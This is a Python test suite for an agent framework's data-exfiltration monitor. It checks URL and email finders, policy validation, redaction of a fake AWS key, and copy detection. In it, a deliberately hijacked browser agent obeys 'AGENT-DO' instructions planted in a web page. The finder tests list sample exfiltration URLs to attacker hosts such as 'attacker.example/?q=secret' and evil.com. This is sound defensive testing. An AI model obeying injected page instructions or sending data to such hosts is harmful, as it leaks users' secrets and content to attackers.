"""Exfiltration checks: the finders, the policy section, the verdicts, the copy check, redaction
of what is recorded, and a hijacked agent in a real mesh trying to send data out."""

from __future__ import annotations

import importlib.resources
import json
import re
import sys
import textwrap
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from pydantic import JsonValue

from agentmesh import (
    Agent,
    ApprovalRequired,
    InputRequired,
    Label,
    Mesh,
    MessageBlocked,
    Plan,
    PlanStep,
    Policy,
    PolicyError,
    Resources,
    SecurityDenied,
    StdioServer,
    TemplatePlanner,
    ToolCallBlocked,
    ToolGrant,
    check_outbound,
    load_policy,
    skill,
)
from agentmesh._private.copy_memory import CopyMemory, words
from agentmesh._private.exfil_find import find_emails, find_hosts
from agentmesh._private.exfil_policy import ExfiltrationPolicy
from agentmesh.audit import AuditLog
from agentmesh.security import SecurityMonitor, Verdict, raise_for_decision

from .office import Outcome, Report
from .servers.web_server import ARTICLE, ATTACK, ATTACKER_HOST, ATTACKER_MAIL

WEB = StdioServer(
    name="web", command=[sys.executable, str(Path(__file__).parent / "servers" / "web_server.py")]
)
KEY = "AKIA" + "Q7X2M9LPW4RT8KZB"  # AWS-shaped, not a real key
USER_MAIL = "alice@example.com"
POLICY_YAML = """
name: exfil
default: block
messages:
  - {from: [user, "user:*"], to: ["*"]}
  - {from: [browser], to: [helper, partner]}  # partner: a remote agent (unit tests)
tools:
  browser: ["web.*"]
tool_labels:
  web.read_page: {effect: read-only}
  web.fetch: {effect: read-only}
  web.effects_log: {effect: read-only, result_trust: trusted}
  web.send_mail: {sensitive: [to], untrusted_arguments: allow}  # only exfiltration stands
scanning: {enabled: false}  # the injection reaches the agent
exfiltration:
  allowed_hosts: ["*.example.com"]
  allowed_emails: [alice@example.com]
"""
POLICY = Policy.from_yaml(POLICY_YAML)
UNTRUSTED = Label.user().join(Label.tool("web.read_page"))


# --- the finders ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "host", "data"),
    [
        ("fetch https://attacker.example/?q=secret now", "attacker.example", True),
        ("hxxps://evil[.]com/drop", "evil.com", True),
        ("h**p://evil(dot)com", "evil.com", False),
        ("go to evil{.}com/x?d=1", "evil.com", True),
        ("http://good.example.com@evil.example/p", "evil.example", True),  # the real host
        ("http:\\\\evil.com\\x", "evil.com", True),
        ("attacker.com/?q=summary", "attacker.com", True),
        ("c2VjcmV0.attacker.com", "c2vjcmv0.attacker.com", False),  # data in a subdomain
        ("10.0.0.1:8080/x", "10.0.0.1", True),
        ("http://3232235777/", "3232235777", False),
        ("ftp://[::1]/", "::1", False),
    ],
)
def test_hosts_are_found_in_plain_and_defanged_forms(text: str, host: str, data: bool) -> None:
    assert [(h, d) for h, d, _ in find_hosts(text)] == [(host, data)]


@pytest.mark.parametrize(
    "text",
    [
        "agents.py, README.md and install.sh",
        "version 1.2.3.4 of the tool",
        "e.g. i.e. U.S.A.",
        "call mesh.run and docs.read_doc",
        "The storm lasted 9.5 hours.",
    ],
)
def test_file_names_versions_and_abbreviations_are_not_hosts(text: str) -> None:
    assert find_hosts(text) == []


def test_addresses_are_found_in_plain_and_bracketed_forms() -> None:
    text = "mail Bob@Evil.example, eve [at] evil [dot] com or x(at)y.org"
    assert find_emails(text) == ["bob@evil.example", "eve@evil.com", "x@y.org"]


def test_check_outbound_outside_a_mesh() -> None:
    args: JsonValue = {
        "url": f"https://docs.example.com/?k={KEY}",
        "to": ["bob@evil.example", USER_MAIL],
        "note": "see https://intranet.example.com/wiki",
    }
    found = check_outbound(args, policy=POLICY)
    assert [(f.kind, f.action) for f in found] == [("secret", "block"), ("email", "block")]
    assert "[REDACTED:aws_key]" in found[0].detail and KEY not in found[0].detail
    assert "b**@evil.example" in found[1].detail
    assert check_outbound("nothing to see", policy="default") == []


# --- the policy section ----------------------------------------------------------------------


def test_the_default_pack_spells_out_the_defaults() -> None:
    assert load_policy("default").exfiltration == ExfiltrationPolicy()
    assert load_policy("demo").exfiltration.overrides[0].targets == ["docs.*"]


def test_the_documented_examples_parse() -> None:
    default_yaml = importlib.resources.files("agentmesh.policies") / "default.yaml"
    lines = default_yaml.read_text().split("\nexfiltration:", 1)[1].splitlines()
    example = [line.removeprefix("    # ") for line in lines if line.startswith("    # ")]
    body = textwrap.indent("\n".join(example[1:]), "    ")
    overrides = Policy.from_yaml(f"name: d\nexfiltration:\n  overrides:\n{body}\n")
    assert overrides.exfiltration.overrides[1].allowed_emails == ["*@mycompany.example"]
    readme = (Path(__file__).parent.parent / "README.md").read_text()
    [block] = re.findall(r"```yaml\n(exfiltration:.*?)```", readme, flags=re.S)
    section = Policy.from_yaml("name: readme\n" + block).exfiltration
    assert section.on_copied_untrusted == "approve" and section.overrides[0].on_url == "approve"


@pytest.mark.parametrize(
    ("section", "problem"),
    [
        ("{allowed_host: [a.com]}", "unknown key"),
        ("{allowed_hosts: ['https://a.com']}", "bare host"),
        ("{allowed_hosts: ['a.com/path']}", "bare host"),
        ("{allowed_hosts: ['[abc.com']}", "unclosed"),
        ("{allowed_emails: ['a@b@c.com']}", "address glob"),
        ("{allowed_emails: ['a@bad domain.com']}", "whitespace"),
        ("{on_url: quarantine}", "on_url"),
        ("{copy_min_words: 2}", "at least 4"),
        ("{secret_kinds: [aws_keys]}", "unknown secret kinds"),
        ("{checks: {tool_calls: [urls]}}", "checks.tool_calls"),
        ("{overrides: [{targets: [], on_url: allow}]}", "overrides.0.targets"),
    ],
)
def test_a_bad_section_fails_at_load(section: str, problem: str) -> None:
    with pytest.raises(PolicyError, match="exfiltration") as info:
        Policy.from_yaml(f"name: x\nexfiltration: {section}\n")
    assert problem in str(info.value)


def test_overrides_add_hosts_and_replace_verdicts() -> None:
    section = ExfiltrationPolicy.model_validate(
        {
            "allowed_hosts": ["a.example"],
            "overrides": [
                {"agents": ["res*"], "targets": ["web.*"], "allowed_hosts": ["b.example"]},
                {"targets": ["web.fetch"], "on_url": "approve"},
            ],
        }
    )
    mine = section.effective("researcher", "web.fetch")
    assert mine.allowed_hosts == ["a.example", "b.example"] and mine.on_url == "approve"
    assert section.effective("writer", "mail.send") is section


# --- verdicts of the monitor -------------------------------------------------------------------


def _call(monitor: SecurityMonitor, tool: str, args: dict[str, Any], **kw: Any) -> tuple[str, str]:
    decision = monitor.vet_tool_call("browser", tool, json.dumps(args, sort_keys=True), **kw)
    return decision.verdict, decision.rule


def test_urls_and_addresses_count_on_untrusted_data_secrets_always() -> None:
    monitor = SecurityMonitor(POLICY)
    evil = {"url": f"https://{ATTACKER_HOST}/c?d=report"}
    assert _call(monitor, "web.fetch", evil) == ("allow", "tools['browser']: 'web.*'")
    assert _call(monitor, "web.fetch", evil, label=UNTRUSTED) == ("block", "exfil.url")
    ok = {"url": "https://docs.example.com/guide"}
    assert _call(monitor, "web.fetch", ok, label=UNTRUSTED)[0] == "allow"
    mail = {"to": ATTACKER_MAIL, "body": "hi"}
    assert _call(monitor, "web.send_mail", mail, label=UNTRUSTED) == ("block", "exfil.email")
    assert _call(monitor, "web.send_mail", {**mail, "to": USER_MAIL}, label=UNTRUSTED)[0] == "allow"
    keyed = {"url": f"https://docs.example.com/?q={KEY}"}
    assert _call(monitor, "web.fetch", keyed) == ("block", "exfil.secret")  # trusted data too


def test_a_secret_is_redacted_in_the_error_the_decision_and_the_audit(tmp_path: Path) -> None:
    audit = AuditLog.create(tmp_path, writer="t")
    monitor = SecurityMonitor(POLICY, audit=audit)
    args = json.dumps({"to": USER_MAIL, "body": f"the key is {KEY}"})
    decision = monitor.vet_tool_call("browser", "web.send_mail", args)
    with pytest.raises(ToolCallBlocked, match=r"exfil\.secret") as info:
        raise_for_decision(decision)
    assert "argument 'body' carries a secret ([REDACTED:aws_key])" in str(info.value)
    recorded = monitor.decisions()[-1]
    assert info.value.decision == recorded and recorded.findings
    audit.close()
    texts = [
        str(info.value),
        recorded.model_dump_json(),
        *(p.read_text() for p in tmp_path.iterdir()),
    ]
    for text in texts:
        assert KEY not in text
    assert "exfil.secret" in texts[-1]


def test_a_plan_grant_fixing_the_recipient_speaks_for_the_user() -> None:
    monitor = SecurityMonitor(POLICY)
    mail = {"to": "bob@partner.example", "body": ARTICLE}
    monitor.vet_tool_result("browser", "web.read_page", ARTICLE, context="run")
    refused = _call(monitor, "web.send_mail", mail, label=UNTRUSTED, context="run")
    assert refused == ("block", "exfil.email")
    pinned = [ToolGrant(tool="web.send_mail", args={"to": "bob@partner.example"})]
    ok = _call(monitor, "web.send_mail", mail, label=UNTRUSTED, context="run", grant=pinned)
    assert ok[0] == "allow"  # the user named bob; the copied body goes where the user said
    keyed = {**mail, "body": KEY}
    assert _call(monitor, "web.send_mail", keyed, grant=pinned) == ("block", "exfil.secret")


def test_copied_untrusted_data_asks_for_approval_and_the_users_own_words_do_not() -> None:
    monitor = SecurityMonitor(POLICY)
    monitor.vet_tool_result("browser", "web.read_page", "Page:\n" + ARTICLE, context="run")
    copy = {"to": USER_MAIL, "body": "FYI: " + ARTICLE.upper()}  # case and framing do not hide it
    decision = monitor.vet_tool_call(
        "browser", "web.send_mail", json.dumps(copy), label=UNTRUSTED, context="run"
    )
    assert decision.rule == "exfil.copied_untrusted.approval_required"
    run = f"a run of {len(words(ARTICLE))} words copied from untrusted data"
    assert f"{run} (from tool:web.read_page)" in decision.reason
    with pytest.raises(ApprovalRequired) as info:
        raise_for_decision(decision)
    again = monitor.vet_tool_call(
        "browser", "web.send_mail", json.dumps(copy), label=UNTRUSTED, context="run",
        approvals=[info.value.key],
    )  # fmt: skip
    assert (again.verdict, again.rule) == ("allow", "exfil.approved")
    # another run read nothing: no copy there
    other = _call(monitor, "web.send_mail", copy, label=UNTRUSTED, context="other")
    assert other[0] == "allow"
    # the user's own goal, word for word the same as the page: theirs to send
    monitor.vet_message("user", "browser", "mail", f"mail this: {ARTICLE}", context="goal")
    monitor.vet_tool_result("browser", "web.read_page", ARTICLE, context="goal")
    mine = _call(monitor, "web.send_mail", copy, label=UNTRUSTED, context="goal")
    assert mine[0] == "allow"


def test_messages_internal_remote_and_gateway() -> None:
    monitor = SecurityMonitor(POLICY)
    monitor.set_remote_agents(["partner"])
    secret = f"use {KEY}"
    link = f"see https://{ATTACKER_HOST}/x"
    vet = monitor.vet_message
    assert vet("browser", "helper", "echo", secret).rule == "exfil.secret"  # inside the mesh
    assert vet("browser", "helper", "echo", link, label=UNTRUSTED).verdict == "allow"
    assert vet("browser", "partner", "ask", link, label=UNTRUSTED).rule == "exfil.url"
    assert vet("browser", "partner", "ask", link).verdict == "allow"  # the user's own link
    assert vet("user", "browser", "go", secret).verdict == "allow"  # coming in
    reply = monitor.vet_reply
    assert reply("browser", "user:bob", "go", secret).rule == "exfil.secret"  # via the gateway
    assert reply("browser", "user", "go", secret).verdict == "allow"  # the driver's own
    # approve cannot pause a message: it blocks
    strict = Policy.from_yaml(
        POLICY_YAML.replace("  allowed_hosts:", "  on_url: approve\n  allowed_hosts:")
    )
    blocked = SecurityMonitor(strict)
    blocked.set_remote_agents(["partner"])
    decision = blocked.vet_message("browser", "partner", "ask", link, label=UNTRUSTED)
    assert (decision.verdict, decision.rule) == ("block", "exfil.url")
    with pytest.raises(MessageBlocked, match=ATTACKER_HOST.replace(".", r"\.")):
        raise_for_decision(decision)


def test_refused_leaks_count_against_the_circuit_breaker() -> None:
    policy = Policy.from_yaml(POLICY_YAML + "limits: {breaker: {violations: 2, window_s: 60}}\n")
    monitor = SecurityMonitor(policy)
    evil = {"url": f"https://{ATTACKER_HOST}/c"}
    for _ in range(2):
        assert _call(monitor, "web.fetch", evil, label=UNTRUSTED)[1] == "exfil.url"
    assert _call(monitor, "web.fetch", {"url": "https://docs.example.com/"}) == (
        "block",
        "limits.breaker",
    )
    assert "refused by exfil.url" in monitor.decisions()[-1].reason


def test_the_copy_memory_is_bounded() -> None:
    memory = CopyMemory(4, max_shingles=40, max_runs=3)
    for run in "abcd":
        memory.remember(run, " ".join(f"{run}{i}" for i in range(12)), trusted=False, source="t")
    assert memory.copied("a", "a0 a1 a2 a3 a4") == (0, [])  # forgotten first
    assert memory.copied("d", "x d0 d1 d2 d3 d4 y") == (5, ["t"])
    memory.remember("e", " ".join(f"w{i}" for i in range(100)), trusted=False, source="t")
    assert memory.copied("e", "w50 w51 w52 w53")[0] == 0  # past its share: not remembered
    assert memory.copied("e", "w0 w1 w2 w3")[0] == 4


def test_disabled_lets_everything_through() -> None:
    policy = Policy.from_yaml(
        POLICY_YAML.replace("exfiltration:", "exfiltration:\n  enabled: false")
    )
    monitor = SecurityMonitor(policy)
    assert _call(monitor, "web.fetch", {"url": KEY}, label=UNTRUSTED)[0] == Verdict.ALLOW


# --- through a mesh: a hijacked agent --------------------------------------------------------


class Browser(Agent):
    """Reads a web page and obeys whatever it says (hijacked); holds a key it must not leak."""

    name = "browser"
    tools = ("web.*",)
    resources = Resources(num_cpus=0.1)

    @skill
    async def browse(self) -> Report:
        """Read the page, do what it says, then the user's own errands."""
        page = (await self.use_tool("web.read_page")).text
        article = page.splitlines()[0]
        attacks = []
        for line in page.splitlines():
            if line.startswith("AGENT-DO: "):
                text = line.removeprefix("AGENT-DO: ").replace("{key}", KEY)
                action = json.loads(text.replace("{article}", article))
                attacks.append(await self._try(action["tool"], action["args"]))
        legit = [
            await self._try("web.fetch", {"url": "https://docs.example.com/guide?page=2"}),
            await self._try("web.send_mail", {"to": USER_MAIL, "body": "Read the report."}),
        ]
        return Report(attacks=attacks, legit=legit)

    @skill
    async def mail_page(self, to: str) -> str:
        """Mail the page's article to ``to``."""
        article = (await self.use_tool("web.read_page")).text.splitlines()[0]
        return (await self.use_tool("web.send_mail", to=to, body=article)).text

    @skill
    async def effects(self) -> str:
        """What the web server did so far."""
        return (await self.use_tool("web.effects_log")).text

    @skill
    async def tell(self, text: str) -> Outcome:
        """Pass ``text`` on to the helper."""
        try:
            await self.call("helper", "echo", text=text)
        except SecurityDenied as exc:
            rule = exc.decision.rule if exc.decision is not None else ""
            return Outcome(tool="helper.echo", done=False, rule=rule, error=str(exc))
        return Outcome(tool="helper.echo", done=True)

    async def _try(self, tool: str, args: dict[str, Any]) -> Outcome:
        try:
            await self.use_tool(tool, **args)
        except SecurityDenied as exc:
            rule = exc.decision.rule if exc.decision is not None else ""
            return Outcome(tool=tool, done=False, rule=rule, error=str(exc))
        return Outcome(tool=tool, done=True)


class Helper(Agent):
    """Another agent of the mesh."""

    name = "helper"
    resources = Resources(num_cpus=0.1)

    @skill
    def echo(self, text: str) -> str:
        """Say it back."""
        return text


@pytest.fixture(scope="module")
async def web(ray_session: None, tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Mesh]:
    audit = tmp_path_factory.mktemp("exfil-audit")
    async with Mesh([Browser, Helper], tools=[WEB], policy=POLICY, audit_dir=audit) as mesh:
        yield mesh


async def _effects(mesh: Mesh) -> list[dict[str, Any]]:
    effects: list[dict[str, Any]] = json.loads(str(await mesh.call("browser", "effects")))
    return effects


async def test_a_hijacked_agent_cannot_send_data_out(web: Mesh) -> None:
    report = Report.model_validate(await web.call("browser", "browse"))
    print("\nexfiltration: refusals", [(a.tool, a.rule) for a in report.attacks])
    assert len(report.attacks) == len(ATTACK)  # the agent really was hijacked
    assert [a.rule for a in report.attacks] == [
        "exfil.url",
        "exfil.secret",
        "exfil.email",
        "exfil.url",
    ]
    assert not any(a.done for a in report.attacks)
    assert f"host {ATTACKER_HOST!r}" in report.attacks[0].error  # names the host
    assert "d***@evil.example" in report.attacks[2].error  # names the address, masked
    assert all(KEY not in a.error for a in report.attacks)
    assert [a.done for a in report.legit] == [True, True]
    effects = await _effects(web)
    assert not [e for e in effects if "evil" in json.dumps(e) or KEY in json.dumps(e)]
    assert {"action": "fetch", "url": "https://docs.example.com/guide?page=2"} in effects
    decisions = await web.decisions()
    assert any(d.rule == "exfil.secret" for d in decisions)
    for d in decisions:
        assert KEY not in d.reason and all(KEY not in f.excerpt for f in d.findings)
    logs = "".join(p.read_text() for p in web.audit_dir.iterdir())
    assert "exfil.secret" in logs and KEY not in logs


async def test_a_secret_passed_between_agents_is_refused(web: Mesh) -> None:
    told = Outcome.model_validate(await web.call("browser", "tell", text=f"the key: {KEY}"))
    assert (told.done, told.rule) == (False, "exfil.secret")
    assert "[REDACTED:aws_key]" in told.error and KEY not in told.error
    assert Outcome.model_validate(await web.call("browser", "tell", text="hello")).done


async def test_copying_the_page_out_waits_for_approval(web: Mesh) -> None:
    with pytest.raises(InputRequired) as asked:
        await web.call("browser", "mail_page", to=USER_MAIL)
    question = asked.value
    assert "'web.send_mail'" in question.prompt and "copied from untrusted data" in question.prompt
    sent = await web.resume("browser", question.task_id, approve=True)
    assert sent == f"sent to {USER_MAIL}"
    # an address the user did not allow is refused outright
    with pytest.raises(ToolCallBlocked, match=r"exfil\.email"):
        await web.call("browser", "mail_page", to="bob@partner.example")


async def test_a_plan_locked_recipient_is_the_users(web: Mesh) -> None:
    grant = [
        ToolGrant(tool="web.read_page"),
        ToolGrant(tool="web.send_mail", args={"to": "bob@partner.example"}),
    ]
    step = PlanStep(
        id="m", agent="browser", skill="mail_page", args={"to": "bob@partner.example"}, tools=grant
    )
    plan = TemplatePlanner(lambda goal: Plan(goal=goal, steps=[step]))
    result = await web.run("mail the field report to bob@partner.example", planner=plan)
    assert result.output == "sent to bob@partner.example"
